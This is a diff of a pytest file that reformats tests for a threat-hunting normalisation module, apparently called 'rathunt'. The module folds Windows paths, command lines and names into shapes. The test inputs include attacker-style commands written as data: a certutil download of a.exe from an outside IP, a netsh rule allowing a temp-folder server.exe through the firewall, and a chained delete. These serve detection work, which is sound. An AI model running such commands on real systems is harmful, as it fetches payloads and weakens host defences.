@@ -9,24 +9,34 @@ from rathunt.baseline import fold
 
 
 def _one(expr: pl.Expr, **columns: str | None) -> str:
-    frame = pl.DataFrame({name: [value] for name, value in columns.items()},
-                         schema={name: pl.String for name in columns})
+    frame = pl.DataFrame(
+        {name: [value] for name, value in columns.items()},
+        schema={name: pl.String for name in columns},
+    )
     return str(frame.select(expr.alias("out"))["out"][0])
 
 
 @pytest.mark.parametrize(
     ("path", "shape"),
     [
-        ("C:\\Users\\Alice\\AppData\\Local\\Temp\\server.exe",
-         "c:\\users\\<user>\\appdata\\local\\temp\\server.exe"),
+        (
+            "C:\\Users\\Alice\\AppData\\Local\\Temp\\server.exe",
+            "c:\\users\\<user>\\appdata\\local\\temp\\server.exe",
+        ),
         ("C:\\Users\\Public\\svchost.exe", "c:\\users\\public\\svchost.exe"),
         ("C:\\Users\\Default\\NTUSER.DAT", "c:\\users\\default\\ntuser.dat"),
-        ("C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\147.0.3912.72\\msedge.exe",
-         "c:\\program files (x86)\\microsoft\\edge\\application\\<ver>\\msedge.exe"),
-        ("\\Device\\HarddiskVolume2\\Windows\\System32\\netsh.exe",
-         "c:\\windows\\system32\\netsh.exe"),
-        ("C:\\ProgramData\\{0197231E-F943-69E5-A527-000000000800}\\setup.exe",
-         "c:\\programdata\\<guid>\\setup.exe"),
+        (
+            "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\147.0.3912.72\\msedge.exe",
+            "c:\\program files (x86)\\microsoft\\edge\\application\\<ver>\\msedge.exe",
+        ),
+        (
+            "\\Device\\HarddiskVolume2\\Windows\\System32\\netsh.exe",
+            "c:\\windows\\system32\\netsh.exe",
+        ),
+        (
+            "C:\\ProgramData\\{0197231E-F943-69E5-A527-000000000800}\\setup.exe",
+            "c:\\programdata\\<guid>\\setup.exe",
+        ),
         ("C:\\Windows\\Temp\\tmp1A2F.tmp", "c:\\windows\\temp\\<tmp>"),
         ('"C:\\Windows\\explorer.exe"', "c:\\windows\\explorer.exe"),
         (None, ""),
@@ -39,17 +49,29 @@ def test_path_shape_folds_volatile_parts(path: str | None, shape: str) -> None:
 @pytest.mark.parametrize(
     ("command", "binary", "shape"),
     [
-        ('netsh firewall add allowedprogram "C:\\Users\\bob\\AppData\\Local\\Temp\\server.exe" '
-         '"server.exe" ENABLE', "netsh.exe",
-         'netsh.exe firewall add allowedprogram "c:\\users\\<user>\\appdata\\local\\temp'
-         '\\server.exe" "server.exe" enable'),
-        ('"C:\\Windows\\system32\\cmd.exe"   /c  ping 10.0.0.1 -n 2 & del x', "cmd.exe",
-         "cmd.exe /c ping <ip> -n <n> & del x"),
-        ("rundll32.exe C:\\Windows\\System32\\shell32.dll,Control_RunDLL "
-         "{4A3D1E2B-1111-2222-3333-444455556666}", "rundll32.exe",
-         "rundll32.exe c:\\windows\\system32\\shell32.dll,control_rundll <guid>"),
-        ("certutil -urlcache -f http://198.51.100.7:8080/a.exe a.exe", "certutil.exe",
-         "certutil.exe -urlcache -f http://<ip>:<n>/a.exe a.exe"),
+        (
+            'netsh firewall add allowedprogram "C:\\Users\\bob\\AppData\\Local\\Temp\\server.exe" '
+            '"server.exe" ENABLE',
+            "netsh.exe",
+            'netsh.exe firewall add allowedprogram "c:\\users\\<user>\\appdata\\local\\temp'
+            '\\server.exe" "server.exe" enable',
+        ),
+        (
+            '"C:\\Windows\\system32\\cmd.exe"   /c  ping 10.0.0.1 -n 2 & del x',
+            "cmd.exe",
+            "cmd.exe /c ping <ip> -n <n> & del x",
+        ),
+        (
+            "rundll32.exe C:\\Windows\\System32\\shell32.dll,Control_RunDLL "
+            "{4A3D1E2B-1111-2222-3333-444455556666}",
+            "rundll32.exe",
+            "rundll32.exe c:\\windows\\system32\\shell32.dll,control_rundll <guid>",
+        ),
+        (
+            "certutil -urlcache -f http://198.51.100.7:8080/a.exe a.exe",
+            "certutil.exe",
+            "certutil.exe -urlcache -f http://<ip>:<n>/a.exe a.exe",
+        ),
         ("taskkill /pid 0x1fc /f", "taskkill.exe", "taskkill.exe /pid <n> /f"),
     ],
 )
@@ -89,8 +111,13 @@ def test_names_keep_hex_but_fold_guids() -> None:
     assert _one(fold.name_shape("n"), n="ecc7c8c51c0850c1ec247c7fd3602f20") == (
         "ecc7c8c51c0850c1ec247c7fd3602f20"
     )
-    assert _one(fold.name_shape("n"), n="GoogleUpdateTaskMachineUA{4A3D1E2B-1111-2222-3333-"
-                "444455556666}") == "googleupdatetaskmachineua<guid>"
+    assert (
+        _one(
+            fold.name_shape("n"),
+            n="GoogleUpdateTaskMachineUA{4A3D1E2B-1111-2222-3333-444455556666}",
+        )
+        == "googleupdatetaskmachineua<guid>"
+    )
 
 
 def test_text_is_cut_before_folding_so_work_is_bounded() -> None:
